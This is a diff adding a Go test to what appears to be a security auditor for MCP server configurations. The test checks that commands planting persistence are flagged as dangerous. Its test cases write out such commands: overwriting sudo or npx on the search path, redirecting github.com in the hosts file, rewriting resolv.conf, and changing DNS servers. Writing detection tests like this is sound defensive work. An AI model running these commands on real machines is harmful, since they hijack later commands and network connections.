@@ -3205,3 +3205,29 @@ func TestAuditLookalikeNames(t *testing.T) {
 		{"an endpoint host in one script per label", remote("https://пример.example.com/mcp"), []string{"danger remote_endpoint mcp.url"}, true, false},
 	})
 }
+
+// A program put in a folder on the search path, the hosts file or the
+// resolver's settings written, and the DNS servers set, are persistence
+// (ruleset 2026.12.94): each decides what later commands and connections
+// reach. Each passed with at most shell_exec and fetch_exec.
+func TestAuditSearchPathAndNames(t *testing.T) {
+	const shell, meta, fetch = "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]", "danger fetch_exec mcp.args[1]"
+	const persists = "danger persistence mcp.args[1]"
+	runCases(t, []auditCase{
+		{"ln into ~/.local/bin", stdio("sh", "-c", "ln -sf /opt/x/run ~/.local/bin/npx"), []string{persists, shell}, false, true},
+		{"cp into /usr/local/bin", stdio("sh", "-c", "cp ./srv /usr/local/bin/"), []string{persists, shell}, false, true},
+		{"install over sudo", stdio("sh", "-c", "install -m 755 ./x /usr/bin/sudo"), []string{persists, shell}, false, true},
+		{"curl -o into ~/.local/bin", stdio("sh", "-c", "curl -o ~/.local/bin/git https://x.example/g"), []string{fetch, persists, shell}, true, true},
+		{"the hosts file", stdio("sh", "-c", `echo "1.2.3.4 github.com" >> /etc/hosts`), []string{persists, shell, meta}, false, true},
+		{"Windows' hosts file", stdio("pwsh", "-c", `Add-Content C:\Windows\System32\drivers\etc\hosts "1.2.3.4 github.com"`), []string{persists, shell}, false, true},
+		{"resolv.conf", stdio("sh", "-c", `echo "nameserver 1.2.3.4" > /etc/resolv.conf`), []string{persists, shell, meta}, false, true},
+		{"networksetup", stdio("networksetup", "-setdnsservers", "Wi-Fi", "1.2.3.4"), []string{"danger persistence mcp.command"}, false, false},
+		{"netsh dns", stdio("cmd", "/c", `netsh interface ip set dns "Ethernet" static 1.2.3.4`), []string{persists, shell}, false, true},
+		// Look-alikes.
+		{"a link in the project", stdio("sh", "-c", "ln -s /usr/bin/python3 ./python; exec ./python srv.py"), []string{shell, meta}, false, true},
+		{"a file under /usr/local/share", stdio("sh", "-c", "cp config.json /usr/local/share/x/"), []string{shell}, false, true},
+		{"the hosts file read", stdio("sh", "-c", "cat /etc/hosts"), []string{shell}, false, true},
+		{"netsh show", stdio("netsh", "advfirewall", "show", "allprofiles"), []string{}, false, false},
+		{"resolvectl status", stdio("resolvectl", "status"), []string{}, false, false},
+	})
+}
